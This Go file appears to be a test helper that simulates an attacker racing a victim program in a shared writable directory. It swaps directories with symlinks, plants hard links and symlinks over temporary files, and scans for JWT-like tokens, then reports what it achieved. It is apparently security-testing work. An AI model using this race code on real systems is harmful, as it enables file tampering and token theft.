package processes

import (
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"

	"golang.org/x/sys/unix"
)

// attack is what somebody else does in a directory to which both may write.
type attack struct {
	// Ground is the directory. Dir in it is the victim's, in whose place a link to Decoy is put, another of the victim's.
	Ground, Dir, Decoy string
	// Names are what the victim's programs make, in Ground too. Precious is a file of the victim's that they might be led to.
	Names    []string
	Precious string
}

// spoils are what came of it.
type spoils struct {
	Swapped, Planted, Linked int
	// Read are the files in which there was a token.
	Read []string
}

// carryOut goes on until standard input is closed, and then says what came of it.
func (a attack) carryOut() {
	var ended atomic.Bool
	go func() {
		_, _ = io.Copy(io.Discard, os.Stdin)
		ended.Store(true)
	}()
	var s spoils
	led := filepath.Join(a.Ground, "led")
	_ = os.Symlink(a.Decoy, led)
	dir := filepath.Join(a.Ground, a.Dir)
	for round := 0; !ended.Load(); round++ {
		if unix.Renameat2(unix.AT_FDCWD, dir, unix.AT_FDCWD, led, unix.RENAME_EXCHANGE) == nil {
			s.Swapped++
		}
		// What is written under another name first is not to be known before, and seen only.
		entries, _ := os.ReadDir(a.Ground)
		names := a.Names
		for _, e := range entries {
			if strings.HasSuffix(e.Name(), ".tmp") || strings.HasPrefix(e.Name(), ".new-") {
				names = append(names[:len(names):len(names)], e.Name())
			}
			s.look(filepath.Join(a.Ground, e.Name()))
		}
		for _, name := range names {
			path := filepath.Join(a.Ground, name)
			mine := filepath.Join(a.Ground, fmt.Sprintf("mine-%d", round%2))
			_ = os.Remove(mine)
			var err error
			if hard := round%2 == 0; hard {
				if err = os.Link(a.Precious, mine); err == nil {
					s.Linked++
				}
			} else {
				err = os.Symlink(filepath.Join(a.Decoy, a.Names[0]), mine)
			}
			// In a sticky directory what belongs to the victim stays.
			if err == nil && os.Rename(mine, path) == nil {
				s.Planted++
			}
		}
		if round == 0 {
			// Where the victim comes first in a sticky directory, there is nothing that anybody else could do.
			fmt.Println("begun")
		}
	}
	if text, err := os.Readlink(dir); err == nil && text == a.Decoy {
		_ = unix.Renameat2(unix.AT_FDCWD, dir, unix.AT_FDCWD, led, unix.RENAME_EXCHANGE)
	}
	_ = json.NewEncoder(os.Stdout).Encode(s)
}

// look reads what can be read.
func (s *spoils) look(path string) {
	info, err := os.Lstat(path)
	if err != nil {
		return
	}
	if info.IsDir() {
		entries, _ := os.ReadDir(path)
		for _, e := range entries {
			s.look(filepath.Join(path, e.Name()))
		}
		return
	}
	f, err := os.OpenFile(path, os.O_RDONLY|unix.O_NONBLOCK, 0)
	if err != nil {
		return
	}
	defer f.Close()
	if held, _ := io.ReadAll(io.LimitReader(f, 1<<20)); strings.Contains(string(held), "eyJ") && len(s.Read) < 10 {
		s.Read = append(s.Read, path)
	}
}
